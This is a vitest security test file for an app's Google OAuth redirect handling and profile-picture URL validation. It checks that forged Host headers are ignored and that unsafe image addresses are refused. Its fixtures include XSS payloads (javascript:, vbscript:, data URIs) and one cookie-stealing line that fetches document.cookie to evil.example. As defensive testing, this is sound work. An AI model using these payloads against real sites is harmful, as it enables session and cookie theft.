import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { users } from '../../db/schema/users';
import { createTestApp } from '../../test/test-app';
import { BrowserSession } from '../../test/browser-session';
import { ayesha } from './testing/account-fixtures';
import { graceProfile, startGoogleProvider, type GoogleProvider } from './testing/google-provider';

type TestApp = Awaited<ReturnType<typeof createTestApp>>;

/** Headers an attacker controls on a direct request (or a proxy passes on unchecked). */
const forged = {
  host: 'evil.example',
  'x-forwarded-host': 'evil.example',
  'x-forwarded-proto': 'https',
};

/** Runs the browser through /api/auth/google, the provider's consent and our callback; every hop carries `headers`. */
async function signInWithGoogle(browser: BrowserSession, headers: Record<string, string> = {}) {
  const start = await browser.request({ method: 'GET', url: '/api/auth/google', headers });
  expect(start.statusCode).toBe(302);
  const authorize = new URL(start.headers.location as string);
  const consent = await fetch(authorize, { redirect: 'manual' });
  expect(consent.status).toBe(302);
  const callback = new URL(consent.headers.get('location') ?? '');
  const done = await browser.request({ method: 'GET', url: callback.pathname + callback.search, headers });
  return { redirectUri: authorize.searchParams.get('redirect_uri'), callback, done };
}

describe('Google redirect addresses come from configuration, never from request headers', () => {
  let provider: GoogleProvider;
  let withoutPublicUrl: TestApp;
  let withPublicUrl: TestApp;
  beforeAll(async () => {
    provider = await startGoogleProvider();
    const common = { AUTH_RATE_LIMIT_MAX: '1000', ...provider.settings };
    withoutPublicUrl = await createTestApp({ ...common, PORT: '5123' });
    withPublicUrl = await createTestApp({
      ...common,
      PUBLIC_URL: 'https://sacredcircle.example',
      TRUST_PROXY: '127.0.0.1',
    });
  });
  afterAll(async () => {
    await Promise.all([withoutPublicUrl.close(), withPublicUrl.close()]);
    await provider.stop();
  });

  it('uses http://localhost:PORT without PUBLIC_URL, whatever Host and X-Forwarded-Host say', async () => {
    const { redirectUri, callback, done } = await signInWithGoogle(
      new BrowserSession(withoutPublicUrl),
      forged,
    );
    expect(redirectUri).toBe('http://localhost:5123/api/auth/google/callback');
    expect(callback.origin).toBe('http://localhost:5123');
    // The code exchange names the same configured address, so the round still completes.
    expect(done.headers.location).toBe('/');
  });

  it('uses PUBLIC_URL when it is set, even with proxy headers trusted', async () => {
    provider.profile = { ...graceProfile(), sub: '510000000000000000001', email: 'naomi@gmail.com' };
    const { redirectUri, done } = await signInWithGoogle(new BrowserSession(withPublicUrl), forged);
    expect(redirectUri).toBe('https://sacredcircle.example/api/auth/google/callback');
    expect(done.headers.location).toBe('/');
  });
});

describe('picture addresses: only https (http on localhost), from the profile form and from Google', () => {
  let provider: GoogleProvider;
  let app: TestApp;
  beforeAll(async () => {
    provider = await startGoogleProvider();
    app = await createTestApp({
      AUTH_RATE_LIMIT_MAX: '1000',
      PUBLIC_URL: 'http://localhost:5000',
      ...provider.settings,
    });
  });
  afterAll(async () => {
    await app.close();
    await provider.stop();
  });
  beforeEach(() => {
    provider.profile = graceProfile();
  });

  const pictureOf = async (email: string) =>
    (await app.database.db.select().from(users).where(eq(users.email, email)))[0]?.profileImageUrl;

  it('refuses script, data, plain-http and over-long picture addresses in the profile with a 400', async () => {
    const browser = new BrowserSession(app);
    const email = 'miriam@example.org';
    expect(
      (await browser.post('/api/auth/signup', { ...ayesha, username: 'miriam', email })).statusCode,
    ).toBe(201);
    const refused = [
      'javascript:alert(document.cookie)',
      'JavaScript:alert(1)',
      ' javascript:alert(1)',
      'data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=',
      'vbscript:msgbox(1)',
      'http://evil.example/me.png',
      'http://localhost.evil.example/me.png',
      '//evil.example/me.png',
      'ftp://images.example.org/me.png',
      'not a url',
      `https://images.example.org/${'a'.repeat(2100)}.png`,
    ];
    for (const picture of refused) {
      const response = await browser.patch('/api/auth/profile', { profileImageUrl: picture });
      expect(response.statusCode, picture).toBe(400);
      expect(response.json(), picture).toMatchObject({ error: 'Bad Request' });
      expect(response.json().message, picture).toContain('Invalid image address');
    }
    expect(await pictureOf(email)).toBeNull();

    for (const picture of [
      'https://images.example.org/me.png',
      'http://localhost:5000/uploads/me.png',
      'http://127.0.0.1:5000/uploads/me.png',
    ]) {
      const response = await browser.patch('/api/auth/profile', { profileImageUrl: picture });
      expect(response.statusCode, picture).toBe(200);
      expect(response.json().user.profileImageUrl).toBe(picture);
    }
    const cleared = await browser.patch('/api/auth/profile', { profileImageUrl: '' });
    expect(cleared.json().user.profileImageUrl).toBeNull();
  });

  it('never shows a picture address stored before the check, such as a javascript: one', async () => {
    const browser = new BrowserSession(app);
    const email = 'stored-before@example.org';
    expect(
      (await browser.post('/api/auth/signup', { ...ayesha, username: 'stored_before', email })).statusCode,
    ).toBe(201);
    await app.database.db
      .update(users)
      .set({ profileImageUrl: 'javascript:alert(document.cookie)' })
      .where(eq(users.email, email));
    const current = await browser.get('/api/auth/user');
    expect(current.statusCode).toBe(200);
    expect(current.json().profileImageUrl).toBeNull();
  });

  it('drops an unsafe picture from Google for a new account', async () => {
    for (const [index, picture] of ['javascript:alert(1)', 'http://evil.example/p.png'].entries()) {
      const email = `new${index}@gmail.com`;
      provider.profile = { ...graceProfile(), sub: `52000000000000000000${index}`, email, picture };
      const { done } = await signInWithGoogle(new BrowserSession(app));
      expect(done.headers.location, picture).toBe('/');
      expect(await pictureOf(email), picture).toBeNull();
    }
  });

  it('drops an unsafe picture from Google when it links an existing account', async () => {
    const email = 'tomas@example.org';
    const signup = await new BrowserSession(app).post('/api/auth/signup', {
      ...ayesha,
      username: 'tomas',
      email,
    });
    expect(signup.statusCode).toBe(201);
    provider.profile = {
      ...graceProfile(),
      sub: '530000000000000000001',
      email,
      picture: 'javascript:fetch("//evil.example/"+document.cookie)',
    };
    const { done } = await signInWithGoogle(new BrowserSession(app));
    expect(done.headers.location).toBe('/');
    const [row] = await app.database.db.select().from(users).where(eq(users.email, email));
    expect(row).toMatchObject({ googleSubject: '530000000000000000001', profileImageUrl: null });
  });
});
